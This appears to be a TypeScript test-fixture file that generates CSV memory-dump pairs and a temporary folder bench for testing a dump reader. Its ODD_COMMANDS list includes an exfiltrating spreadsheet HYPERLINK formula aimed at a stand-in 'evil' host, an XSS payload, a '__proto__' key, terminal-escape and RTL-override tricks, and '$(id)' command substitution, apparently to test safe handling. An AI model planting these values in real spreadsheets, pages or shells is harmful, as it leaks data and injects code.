import { closeSync, ftruncateSync, mkdtempSync, openSync, rmSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import type { Caps } from '../../../server/adapters/dumps/caps.ts';
import { openDumpFolder } from '../../../server/adapters/dumps/dump-folder.ts';
import type { DumpPair, ReadDump } from '../../../server/application/dump-ports.ts';
import type { DumpFormat } from '../../../server/domain/dump-format.ts';
import { SEED_SYSTEM_COLUMNS } from '../../../server/domain/dump-format.ts';
import { exampleDump } from '../../server/adapters/dumps/process-files.ts';

/** The two files of one sample, as a recorder wrote them. */
export interface Pair {
  readonly format: DumpFormat;
  readonly process: Buffer;
  readonly system: Buffer;
}

/** What the system file of our recorder says of the process file, among the rest. */
export function systemFileOf(process: Buffer): Buffer {
  const rows = process.toString('latin1').split('\n').length - 2;
  const crc = crc32(process).toString(16).padStart(8, '0');
  const names =
    'TIMESTAMP,HOST,BOOT_ID,BOOT_TIME,UPTIME_S,CLK_TCK,INTERVAL_S,PROC_ROWS,PROC_CRC32,MemTotal_KB,MemFree_KB,MemAvailable_KB,Active(anon)_KB,HugePages_Total,PSI_SOME_AVG10,PSI_SOME_TOTAL_US,OOM_KILL,RECORDER_PID,RECORDER_VERSION,CMD_MODE,VANISHED,UNREADABLE,OVERRUN_S,LABEL';
  const cells = `2026-03-01T00:00:00.000Z,node-1,5cd8ea42-6c0e-b9fd-1f81-ebdf390ecdaa,2026-02-28T23:59:20.000Z,40.00,100,60,${rows},${crc},33554432,8563868,20125091,8485933,0,0.25,123456,0,77,0.1.0,redacted,0,0,0,`;
  return Buffer.from(`${names}\n${cells}\n`);
}

function pairOf(process: Buffer): Pair {
  return { format: 'v2', process, system: systemFileOf(process) };
}

/** Rows as recorders write them, about so many bytes; every third command is quoted. */
export function plainPair(bytes: number): Pair {
  return pairOf(exampleDump(bytes));
}

const ODD_COMMANDS = [
  '"=HYPERLINK(""http://evil/?x=""&A1,""click"")"',
  '<img src=x onerror=alert(1)>',
  '__proto__',
  'a\\x0ab\\x1b]0;pwn\\x07',
  'C:\\\\Program Files\\\\x',
  '\u202egpj.exe',
  'пример --путь=/д',
  '"a,b""c"',
  '',
  '%s%n {{y}} $(id)`id`',
  '🐘 postgres: writer',
  'mysqld\\…',
];

/** Commands that were chosen to be a nuisance, some cells not known, and columns of a later recorder. */
export function oddPair(bytes: number): Pair {
  let text = 'PID,PPID,USER,START_TICKS,STATE,RSS_KB,VSZ_KB,LATER,CPU_S,NOTE,COMM,CMD\n';
  for (let pid = 100; text.length < bytes; pid++) {
    const command = ODD_COMMANDS[pid % ODD_COMMANDS.length];
    const user = pid % 4 === 0 ? '"doe, jane"' : `用户${pid % 3}`;
    text += `${pid},1,${user},${pid * 3},${pid % 2 ? 'S' : ''},${90_000 - pid},${pid * 9},x${pid},${pid % 5 ? '1.25' : ''},,c${pid},${command}\n`;
  }
  return pairOf(Buffer.from(text));
}

/** As the predecessor wrote them: no start ticks, and nothing that tells what the file should be. */
export function seedPair(bytes: number): Pair {
  let text = 'PID,PPID,USER,RSS_MB,VSZ_MB,CMD\n';
  for (let pid = 7; text.length < bytes; pid++) {
    const command = pid % 5 === 0 ? '"awk ""{print $1}"", C:\\temp"' : `/opt/app-${pid} --é=${pid}`;
    text += `${pid},${pid >> 2},ann,${4000 - pid},${pid * 2},${command}\n`;
  }
  const system = `${SEED_SYSTEM_COLUMNS.join(',')}\n${SEED_SYSTEM_COLUMNS.map((_, k) => 1000 + k).join(',')}\n`;
  return { format: 'seed', process: Buffer.from(text), system: Buffer.from(system) };
}

/** A folder with one pair in it, of which each file can be put there anew at little cost. */
export interface PairBench {
  put(role: 'process' | 'system', bytes: Uint8Array): void;
  read(): Promise<ReadDump>;
  remove(): void;
}

export const STAMP = '20260301_000000';

export function openPairBench(format: DumpFormat, caps: Partial<Caps> = {}, suffix = ''): PairBench {
  const root = mkdtempSync(join(tmpdir(), 'pmi-reader-'));
  const stamp = `${STAMP}${format === 'v2' ? 'Z' : ''}.csv`;
  const files = { process: `process_mem_${stamp}${suffix}`, system: `sys_mem_${stamp}` };
  // Emptying a file before it is written anew would make some file systems write it out each time.
  const fds = {
    process: openSync(join(root, files.process), 'w'),
    system: openSync(join(root, files.system), 'w'),
  };
  const folder = openDumpFolder({ root, timeZone: 'UTC', caps });
  const pair: DumpPair = {
    stampInstant: Date.UTC(2026, 2, 1),
    processFile: files.process,
    systemFile: files.system,
    folder: '',
  };
  return {
    put(role, bytes) {
      writeSync(fds[role], bytes, 0, bytes.length, 0);
      ftruncateSync(fds[role], bytes.length);
    },
    read: () => folder.read(pair),
    remove() {
      for (const fd of Object.values(fds)) closeSync(fd);
      rmSync(root, { recursive: true, force: true });
    },
  };
}
